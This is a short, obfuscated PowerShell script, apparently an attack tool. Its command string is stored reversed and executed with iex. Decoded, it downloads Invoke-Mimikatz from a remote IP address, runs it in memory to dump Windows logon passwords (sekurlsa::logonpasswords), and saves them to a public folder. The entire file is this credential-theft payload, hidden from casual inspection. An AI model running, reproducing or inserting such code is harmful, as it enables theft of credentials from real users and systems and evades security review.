$icjfn='
txt.o\cilbuP\sresU\:C eliF-tuO | ''"sdrowssapnogol::aslrukes" "gubed::egelivirp"'' dnammoC- ztakimiM-ekovnI
)''1sp.ztakimiM-ekovnI/71.311.0.302//:ptth''(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI
1v 7331 partstoob #'.ToCharArray(); [array]::Reverse($icjfn); iex (-join $icjfn)